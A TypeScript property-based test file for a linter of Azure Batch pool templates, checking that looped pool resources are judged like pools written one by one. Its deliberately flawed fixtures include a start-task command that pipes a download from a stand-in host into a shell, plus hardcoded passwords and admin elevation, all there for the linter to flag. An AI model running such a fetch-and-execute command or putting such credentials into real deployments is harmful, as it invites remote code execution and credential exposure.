// What is said of the iterations of a loop is what would be said of as many resources written one by one.
import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { lint } from "../../server/src/lint/lint.ts";
import type { LintResult } from "../../server/src/lint/lint-result.ts";
import { defaultSettings } from "../../server/src/lint/settings.ts";
import { allRules } from "../../server/src/rules/index.ts";
import type { Rule } from "../../server/src/rules/rule.ts";
import type { Message } from "../../server/src/text/message.ts";

const file = "/templates/pools.json";
const settings = { ...defaultSettings, profile: "strict", minimumCertainty: "possible" } as const;
const copies = 3;
const [linux, windows] = ["batch.node.ubuntu 22.04", "batch.node.windows amd64"];

function check(template: object): LintResult {
  const sources = { files: new Map([[file, JSON.stringify(template, null, 2)]]), folders: new Map() };
  return lint({ file, sources, settings, today: "2026-11-22" });
}

type Values = readonly unknown[];

/** Values that pools may state, some of them wrong, by where they stand. */
const choices: Readonly<Record<string, Values>> = {
  "properties.vmSize": ["Standard_D2s_v5", "Standard_A2", "STANDARD_NC6", null],
  "properties.targetNodeCommunicationMode": [
    "Classic",
    "Simplified",
    "[if(parameters('flag'), 'Classic', 'Simplified')]",
  ],
  "properties.interNodeCommunication": ["Enabled", "Disabled"],
  "properties.networkConfiguration.publicIPAddressConfiguration.provision": ["NoPublicIPAddresses", "UserManaged"],
  "properties.networkConfiguration.subnetId": ["[variables('subnet')]", "[parameters('anySubnet')]", null],
  "properties.deploymentConfiguration.virtualMachineConfiguration.nodeAgentSkuId": [
    "batch.node.ubuntu 18.04",
    "batch.node.windows amd64",
  ],
  "properties.upgradePolicy": [null, "[variables('upgrades')]"],
  "properties.userAccounts": ["[variables('nobody')]", "[variables('users')]", "[parameters('anyUsers')]", null],
  "properties.startTask.commandLine": ["/bin/bash -c 'curl http://x.example/a | sh'", "cmd /c dir"],
  "properties.startTask.userIdentity.autoUser.elevationLevel": [
    "Admin",
    "[parameters('level')]",
    "[if(parameters('flag'), 'Admin', 'NonAdmin')]",
  ],
  apiVersion: ["2024-07-01", "2020-05-01"],
  condition: [true, "[parameters('deploy')]", false],
};

interface Knob {
  readonly path: string;
  readonly values: Values;
  /** Whether the iterations have the values in turn, or all have the first one. */
  readonly isByIndex: boolean;
}

const knobs: fc.Arbitrary<readonly Knob[]> = fc.subarray(Object.keys(choices), { minLength: 2 }).chain((paths) =>
  fc.tuple(
    ...paths.map((path) =>
      fc.record({
        path: fc.constant(path),
        values: fc.array(fc.constantFrom(...(choices[path] as Values)), { minLength: copies, maxLength: copies }),
        isByIndex: fc.boolean(),
      }),
    ),
  ),
);

const accountNames = fc.constantFrom(
  "[concat('account', copyIndex(), '/pool')]",
  "[concat('account1/pool', copyIndex())]",
);

/** A pool in a loop. */
function loopedPool(name: string, own: readonly Knob[]): object {
  const pool: Record<string, unknown> = {
    type: "Microsoft.Batch/batchAccounts/pools",
    apiVersion: "2024-07-01",
    copy: { name: "pools", count: copies },
    name,
  };
  for (const { path, values, isByIndex } of own) put(pool, path.split("."), isByIndex ? inTurn(values) : values[0]);
  return pool;
}

/** An expression that has one value in each iteration. */
function inTurn(values: Values): string {
  const sources = values.map(sourceOf);
  return `[if(equals(copyIndex(), 0), ${sources[0]}, createArray(${sources.join(", ")})[copyIndex()])]`;
}

function sourceOf(value: unknown): string {
  if (typeof value === "string") return value.startsWith("[") ? value.slice(1, -1) : `'${value.replaceAll("'", "''")}'`;
  return value === null ? "null()" : `${value}()`;
}

function put(into: Record<string, unknown>, [name = "", ...others]: readonly string[], value: unknown): void {
  if (others.length === 0) {
    into[name] = value;
    return;
  }
  const held = into[name] ?? {};
  into[name] = held;
  put(held as Record<string, unknown>, others, value);
}

function account(index: number): object {
  const poolAllocationMode = index === 1 ? "UserSubscription" : "BatchService";
  return {
    type: "Microsoft.Batch/batchAccounts",
    apiVersion: "2024-07-01",
    name: `account${index}`,
    location: "westeurope",
    properties: { poolAllocationMode },
  };
}

function template(pools: readonly object[]): object {
  return {
    $schema: "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
    contentVersion: "1.0.0.0",
    parameters: {
      anySubnet: { type: "string" },
      password: { type: "securestring" },
      given: { type: "securestring", defaultValue: "S3cret!word" },
      level: { type: "string", allowedValues: ["Admin", "NonAdmin"], defaultValue: "NonAdmin" },
      deploy: { type: "bool", defaultValue: true },
      flag: { type: "bool" },
      anyUsers: { type: "array" },
    },
    variables: {
      subnet: "[resourceId('Microsoft.Network/virtualNetworks/subnets', 'network', 'nodes')]",
      upgrades: { mode: "automatic", automaticOSUpgradePolicy: { enableAutomaticOSUpgrade: true } },
      nobody: [],
      users: [
        { name: "runner", elevationLevel: "[parameters('level')]", password: "[parameters('given')]" },
        { name: "admin", elevationLevel: "Admin", password: "Passw0rd!" },
      ],
    },
    resources: [account(0), account(1), account(2), ...pools],
  };
}

/** The resource as it would be written for each iteration. */
function written(pool: object): readonly object[] {
  return Array.from({ length: copies }, (_, index) => {
    const { copy: _loop, ...one } = JSON.parse(JSON.stringify(pool).replaceAll("copyIndex()", String(index)));
    return one;
  });
}

/** What came of the rules on each subject, and what is said at all; where it stands differs. */
function told({ subjects, findings }: LintResult) {
  return {
    outcomes: subjects.map(({ kind, name, outcomes }) => ({ kind, name, outcomes })),
    said: [...new Set(findings.map(({ rule, message }) => `${rule}: ${message.id}`))].sort(),
  };
}

test("a loop is told like its resources written one by one", () => {
  fc.assert(
    fc.property(accountNames, knobs, (name, own) => {
      const pool = loopedPool(name, own);
      assert.deepEqual(told(check(template([pool]))), told(check(template(written(pool)))));
    }),
    { numRuns: 300, seed: 20261122 },
  );
});

test("what is said names the iteration that it is said of", () => {
  fc.assert(
    fc.property(accountNames, knobs, (name, own) => {
      for (const { rule, message, subject } of check(template([loopedPool(name, own)])).findings) {
        const { pool, subject: named = pool } = innermost(message).data;
        if (named !== undefined) assert.equal(named, subject.name, rule);
      }
    }),
    { numRuns: 300, seed: 20261123 },
  );
});

/** The sentence without those that say under which circumstances it holds. */
function innermost(said: Message): Message {
  const { message } = said.data;
  return typeof message === "object" && "id" in message ? innermost(message) : said;
}

test("of a loop that runs often the last iteration is looked at, too", () => {
  const isLast = "[if(equals(copyIndex(), 299), 'Classic', 'Simplified')]";
  const pool = loopedPool("[concat('account1/pool', copyIndex())]", [
    { path: "properties.targetNodeCommunicationMode", values: [isLast], isByIndex: false },
  ]);
  const { subjects } = check(template([{ ...pool, copy: { name: "pools", count: 300 } }]));
  const failed = subjects.filter(({ outcomes }) =>
    outcomes.some(({ rule, outcome }) => rule === "pool-classic-node-communication" && outcome === "failed"),
  );
  assert.deepEqual(
    failed.map(({ name }) => name),
    ["account1/pool299"],
  );
});

test("what mends a loop is offered if all iterations ask for it, and safe if they are alike", () => {
  const machine = "properties.deploymentConfiguration.virtualMachineConfiguration";
  const safety = (agents: Values) => {
    const isByIndex = new Set(agents).size > 1;
    const pool = loopedPool("[concat('account1/pool', copyIndex())]", [
      { path: `${machine}.nodeAgentSkuId`, values: agents, isByIndex },
      { path: `${machine}.windowsConfiguration.enableAutomaticUpdates`, values: [true], isByIndex: false },
    ]);
    const { findings } = check(template([pool]));
    const [finding] = findings.filter(({ rule }) => rule === "pool-windows-configuration-on-linux");
    return finding?.fixes.map(({ safe }) => safe);
  };
  assert.deepEqual(safety([linux, linux, linux]), [true]);
  assert.deepEqual(safety([linux, "batch.node.ubuntu 24.04", linux]), [false]);
  assert.deepEqual(safety([linux, windows, linux]), []);
});

test("a rule that reads nothing of the index runs once for a loop", () => {
  const knob = { path: "properties.targetNodeCommunicationMode", values: ["Classic"], isByIndex: false };
  const pool = loopedPool("[concat('account1/pool', copyIndex())]", [knob]);
  const runs = runsOf("pool-classic-node-communication", () => check(template([pool])));
  assert.equal(runs, 1);
});

test("a rule that reads the index runs for each iteration", () => {
  const values = ["Simplified", "Classic", "Classic"];
  const knob = { path: "properties.targetNodeCommunicationMode", values, isByIndex: true };
  const pool = loopedPool("[concat('account1/pool', copyIndex())]", [knob]);
  const runs = runsOf("pool-classic-node-communication", () => check(template([pool])));
  assert.equal(runs, copies);
});

/** How often a rule runs. */
function runsOf(id: string, work: () => void): number {
  const rule = allRules.find((each) => each.id === id) as { -readonly [K in keyof Rule]: Rule[K] };
  const { check: own } = rule;
  let runs = 0;
  rule.check = (...given) => {
    runs++;
    return own.apply(rule, given);
  };
  try {
    work();
  } finally {
    rule.check = own;
  }
  return runs;
}

test("what mends a loop is offered where its iterations ask for it for different reasons", () => {
  const pool = loopedPool("[concat('account1/pool', copyIndex())]", [
    {
      path: "properties.networkConfiguration.publicIPAddressConfiguration.provision",
      values: ["NoPublicIPAddresses", "BatchManaged", "BatchManaged"],
      isByIndex: true,
    },
  ]);
  const { findings } = check(template([pool]));
  const rules = ["pool-no-public-ip-without-subnet", "pool-not-in-vnet"];
  const fixes = findings.filter(({ rule }) => rules.includes(rule)).map((each) => [each.rule, each.fixes.length]);
  assert.deepEqual(fixes, [
    ["pool-no-public-ip-without-subnet", 1],
    ["pool-not-in-vnet", 1],
  ]);
});
